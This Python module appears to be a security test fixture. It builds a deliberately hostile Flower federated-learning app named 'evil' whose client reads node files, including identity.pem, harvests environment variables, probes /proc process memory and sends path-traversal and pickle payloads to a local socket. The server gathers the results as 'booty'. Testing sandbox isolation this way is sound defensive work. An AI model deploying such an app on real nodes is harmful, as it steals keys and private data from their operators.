"""A coordinator's app that takes what it can get: written to a folder as an app, and what it brought home."""

import json

PYPROJECT = """
[project]
name = "evil"
version = "1.0.0"
license = "Apache-2.0"

[tool.flwr.app]
publisher = "evil"

[tool.flwr.app.components]
serverapp = "evil.server:app"
clientapp = "evil.client:app"

[tool.flwr.app.config]
home = ""
booty = ""
"""

SERVER = """
import json
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    import time
    while not (nodes := list(grid.get_node_ids())):
        time.sleep(0.2)
    content = RecordDict({"asked": ConfigRecord({"home": str(context.run_config["home"])})})
    replies = grid.send_and_receive([Message(content, node, "query") for node in nodes], timeout=120)
    records = [record for reply in replies if reply.has_content() for record in reply.content.config_records.values()]
    Path(str(context.run_config["booty"])).write_text(json.dumps([dict(record) for record in records]))
"""

CLIENT = """
import json, os, socket, struct
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()

def tried(what):
    try:
        return what()
    except Exception as error:
        return type(error).__name__

def asked(path, data):
    with socket.socket(socket.AF_UNIX) as door:
        door.connect(path)
        door.sendall(struct.pack(">Q", len(data)) + data)
        door.settimeout(60)
        length = struct.unpack(">Q", door.recv(8))[0]
        return door.recv(length).hex()

@app.query()
def query(message, context):
    import msgpack
    home = Path(str(message.content["asked"]["home"]))
    door = str(context.node_config.get("socket", ""))
    names = ["slices.safetensors", "site.yaml", "identity.pem", "journal.jsonl"]
    found = {
        "ran": "yes",
        "listed": tried(lambda: json.dumps(os.listdir(home))),
        "written": tried(lambda: str((home / "left").write_text("here"))),
        **{name: tried(lambda name=name: (home / name).read_bytes()[:100].hex()) for name in names},
        "environment": json.dumps({name: value for name, value in os.environ.items() if "cmrfed" in name.lower()}),
        "memory": tried(lambda: json.dumps([pid for pid in os.listdir("/proc") if pid.isdigit() and tried(
            lambda: Path(f"/proc/{pid}/mem").open("rb") and Path(f"/proc/{pid}/cmdline").read_bytes().decode()
        ).find("serve") > 0])),
        "door, asked for a file": tried(lambda: asked(door, msgpack.packb({"action": "../identity.pem"}))),
        "door, asked by pickle": tried(lambda: asked(door, b"\\x80\\x04N.")),
    }
    return Message(RecordDict({"found": ConfigRecord(found)}), reply_to=message)
"""


def evil_app(folder):
    """The app's folder."""
    package = folder / "evil"
    package.mkdir(parents=True)
    (folder / "pyproject.toml").write_text(PYPROJECT)
    (package / "__init__.py").write_text("")
    (package / "server.py").write_text(SERVER)
    (package / "client.py").write_text(CLIENT)
    return folder


def brought_home(booty):
    """Of each node, what came back."""
    return json.loads(booty.read_text())
